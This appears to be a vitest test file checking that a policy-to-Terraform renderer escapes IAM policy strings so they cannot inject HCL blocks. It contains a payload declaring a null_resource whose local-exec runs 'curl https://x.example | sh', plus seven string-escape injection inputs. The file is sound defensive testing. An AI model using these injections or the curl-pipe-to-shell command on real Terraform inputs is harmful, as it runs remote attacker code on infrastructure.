// HCL injection: a policy string (from a trail or a proposed policy) tries to end its Terraform string and
// declare a `resource "null_resource"` with a `local-exec` provisioner. Whatever the mode, the file must parse
// to the one data source, with every string equal to the input; only well-formed references stay live.
import { describe, expect, it } from 'vitest';
import type { PolicyDocument } from '../../src/model.js';
import { renderTerraformBundle } from '../../src/rendering/terraform-bundle.js';
import { policyToTerraform } from '../../src/rendering/terraform.js';
import { parseHcl, terraformPolicies } from '../cases/export/helpers.js';

const PAYLOAD = 'resource "null_resource" "pwn" {\n  provisioner "local-exec" {\n    command = "curl https://x.example | sh"\n  }\n}\n';

// Each tries a different way out of the string: a comment inside `${`, a quote inside `${`, a heredoc, a bare
// quote, a template directive, and a balanced-looking interpolation hiding a newline.
const ATTACKS = [
  `\${x # "\n}"\n${PAYLOAD}locals {\n  z = "\${"}`,
  `\${x /* " */ }"\n${PAYLOAD}#`,
  `\${"\\""}\n${PAYLOAD}`,
  `"\n${PAYLOAD}x = "`,
  `%{ if true }"\n${PAYLOAD}%{ endif }`,
  `\${join("", ["\\n"])}"]\n${PAYLOAD}y = ["`,
  `arn:aws:s3:::b/\${aws:username}/\${var.prefix}"\n${PAYLOAD}`,
];

const doc = (resource: string): PolicyDocument => ({
  Version: '2012-10-17',
  Statement: [{ Sid: 'S', Effect: 'Allow', Action: ['s3:GetObject'], Resource: [resource, 'arn:aws:s3:::other/*'] }],
});

describe('HCL injection through a policy string', () => {
  for (const mode of ['keep', 'literal'] as const) {
    it.each(ATTACKS.map((a) => [a]))(`${mode}: %j declares nothing and reads back as itself`, (attack) => {
      const tf = policyToTerraform(doc(attack), 'p', { interpolations: mode });
      const parsed = parseHcl(tf);
      expect(Object.keys(parsed)).toEqual(['data']);
      expect(Object.keys(parsed.data)).toEqual(['aws_iam_policy_document']);
      expect(tf).not.toMatch(/^resource /m);
      const back = terraformPolicies(tf).p.Statement[0].Resource;
      // The only live part may be the well-formed reference `${var.prefix}`, which the parser keeps as text.
      expect(back).toEqual([attack, 'arn:aws:s3:::other/*']);
    });
  }

  it('keeps only the well-formed reference live', () => {
    const tf = policyToTerraform(doc(ATTACKS[6]), 'p', { interpolations: 'keep' });
    expect(tf).toContain('$${aws:username}/${var.prefix}\\"\\nresource \\"null_resource\\"');
  });

  it('the bundle (always literal) declares only its own blocks', () => {
    const tf = renderTerraformBundle({ roleName: 'r', policies: [doc(ATTACKS[0])], trust: doc(ATTACKS[1]) });
    const parsed = parseHcl(tf);
    expect(parsed.resource?.null_resource).toBeUndefined();
    expect(terraformPolicies(tf).r_policy?.Statement[0].Resource ?? Object.values(terraformPolicies(tf))[0].Statement[0].Resource).toContain(ATTACKS[0]);
  });
});
